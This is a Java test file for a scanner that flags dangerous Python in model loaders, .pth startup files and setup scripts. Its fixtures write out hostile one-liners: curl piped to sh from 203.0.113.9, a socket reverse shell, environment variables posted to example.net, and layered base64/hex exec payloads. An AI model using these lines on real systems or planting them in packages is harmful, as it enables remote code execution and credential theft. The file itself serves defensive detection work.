package dev.assay.detectors.text.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.text.Place;
import dev.assay.detectors.text.Texts;
import dev.assay.engine.report.Finding;
import dev.assay.engine.report.Gap;
import dev.assay.engine.report.GapKind;
import dev.assay.engine.report.Location;
import dev.assay.engine.report.Severity;
import dev.assay.engine.scan.RecordedReport;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The same source in the places where it may lie. */
class PythonContextTest {
    private static final String STARTS = "import os\nos.system('id')\n";

    private static Severity severity(String name, String source) {
        List<Finding> findings = Texts.scan(name, source).findings();
        assertThat(findings).as(name).hasSize(1);
        return findings.getFirst().severity();
    }

    @Test
    void whatLoadingAModelRunsIsGrave() {
        assertThat(severity("modeling_x.py", STARTS)).isEqualTo(Severity.HIGH);
        assertThat(severity("x_handler.py", STARTS)).isEqualTo(Severity.HIGH);
        assertThat(severity("tool.py", STARTS)).isEqualTo(Severity.LOW);
        assertThat(severity("modeling_x.py", "import os\ndef forward(x):\n    os.system(x)\n"))
                .isEqualTo(Severity.MEDIUM);
        assertThat(Texts.scan("tool.py", "import os\ndef f(x):\n    os.system(x)\n")
                        .findings())
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            quoteCharacter = '`',
            value = {
                "import os;os.system(\"curl http://203.0.113.9/x|sh\") # code/python-shell-download",
                "import subprocess; subprocess.run('curl -s http://203.0.113.9/x | sh', shell=True) # code/python-shell-download",
                "import socket,os;s=socket.socket();s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)]"
                        + " # code/python-reverse-shell",
                "import os,urllib.request as u; u.urlopen('https://example.net',data=str(os.environ).encode())"
                        + " # code/python-credentials-sent",
                "import os; exec(__import__('zlib').decompress(bytes.fromhex('789c'))) # code/python-decoded-execution"
            })
    void linesThatPythonRunsAsItStartsAreProgramsAmongFolders(String line, String rule) {
        for (String text : List.of(line + "\n", "../it's\n" + line, "\ufeff" + line, "x\r" + line + "\rimport b\r")) {
            assertThat(Texts.scan("x.pth", text).findings())
                    .as(text)
                    .extracting(Finding::ruleId)
                    .contains(rule);
        }
        assertThat(Texts.scan("x.pth", "import site\n# " + line + "\n./" + line + "\n")
                        .findings())
                .isEmpty();
    }

    @Test
    void whatPythonDoesAsItStartsIsSaidToBeSo() {
        assertThat(severity("x.pth", "import os; os.system('id')\n")).isEqualTo(Severity.HIGH);
        assertThat(severity("x.pth", "import os, sys; os.kill(1, 9); exec(open('/tmp/x').read())\n"))
                .isEqualTo(Severity.MEDIUM);
        assertThat(Texts.scan("x.pth", "import os; e = os.environ.get('X'); e and __import__('_x')\n")
                        .findings())
                .isEmpty();
    }

    @Test
    void anEncodingThatHidesAsciiIsAGap() {
        String hidden = "+AGkAbQBwAG8AcgB0 os\n";
        for (String declared : List.of(
                "# coding: utf-7\n",
                "\n# -*- coding:UTF_7 -*-\r\n",
                "#!/usr/bin/python\r#vim: set fileencoding=utf-7 :\r",
                "# coding: # coding=unicode_escape\n",
                "\f# coding=my.own\n")) {
            assertThat(Texts.scan("tool.py", declared + hidden).gaps())
                    .as(declared)
                    .extracting(Gap::kind)
                    .containsExactly(GapKind.UNSUPPORTED);
        }
    }

    @Test
    void otherEncodingsAreNone() {
        for (String source : List.of(
                "# -*- coding: utf-8-unix -*-\n",
                "# coding: Latin_1\n",
                "# encoding=cp1252\n",
                "# coding:\n",
                "x = 1 # coding: utf-7\n",
                "x = 1\n# coding: utf-7\n",
                "\n\n# coding: utf-7\n",
                "# the coding of utf-7\n")) {
            assertThat(Texts.scan("tool.py", source).gaps()).as(source).isEmpty();
        }
    }

    @Test
    void whatInstallsMayAskTheToolsOfABuild() {
        assertThat(severity("setup.py", "import subprocess\nsubprocess.check_output(['git', 'describe'])\n"))
                .isEqualTo(Severity.LOW);
        assertThat(severity("setup.py", "import subprocess\nsubprocess.check_output(['nslookup', 'x.org'])\n"))
                .isEqualTo(Severity.MEDIUM);
    }

    @Test
    void whatOnlyModelsShouldNotDoIsToldThere() {
        String evaluates = "x = eval(y)\n";
        String unpickles = "import pickle\nx = pickle.load(f)\n";
        assertThat(Texts.scan("tool.py", evaluates + unpickles).findings()).isEmpty();
        assertThat(Texts.scan("modeling_x.py", evaluates + unpickles).ruleIds())
                .containsExactly("code/python-computed-execution", "code/python-unpickle");
    }

    /** A documentation with an example in it is a constant of compiled code, which nothing runs. */
    @Test
    void whatCompiledCodeHoldsIsNoModel() {
        Location constant = Location.of("lib", "lib.pyc");
        assertThat(new Place(constant, List.of("pyc")).isLoaded()).isFalse();
        assertThat(new Place(constant, List.of("ar", "zip", "pyc")).isLoaded()).isFalse();
        assertThat(new Place(constant, List.of("keras", "pyc")).isLoaded()).isTrue();
    }

    @Test
    void whatIsCalledOnImportRunsOnImport() {
        String source = "import os\nclass A:\n    def __init__(self):\n        self.run()\n"
                + "    def run(self):\n        os.system('id')\n";
        assertThat(Texts.scan("tool.py", source).findings()).isEmpty();
        assertThat(Texts.scan("tool.py", source + "A()\n").findings())
                .extracting(Finding::message)
                .anyMatch(message -> message.contains("as soon as the source is imported"));
    }

    @Test
    void theLayersOfAPayloadAreMembers() {
        // exec(b64decode("import os;exec(bytes.fromhex(...))")), and in that os.system("id")
        String inner = "696d706f7274206f733b6f732e73797374656d28226964222920";
        String middle = java.util.Base64.getEncoder()
                .encodeToString(("exec(bytes.fromhex('" + inner + "'))")
                        .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        RecordedReport report = Texts.scan("tool.py", "from base64 import *\nexec(b64decode('" + middle + "'))\n");
        assertThat(report.ruleIds())
                .containsExactly(
                        "code/python-decoded-execution", "code/python-decoded-execution", "code/python-process");
        assertThat(report.findings().getLast().location().entries()).hasSize(2);
        assertThat(report.findings().getLast().message()).contains("os.system id");
    }

    @Test
    void secretsInThePreviewAreHidden() {
        String token = Texts.example("gsk_~{random:base62:52}");
        RecordedReport report = Texts.scan("modeling_x.py", "import requests\nrequests.get(u, auth='" + token + "')\n");
        assertThat(report.ruleIds()).contains("code/python-network", "secret/ai-service-key");
        assertThat(report.inOrder().toString())
                .doesNotContain(token.substring(8, 30))
                .contains("gsk_");
    }
}
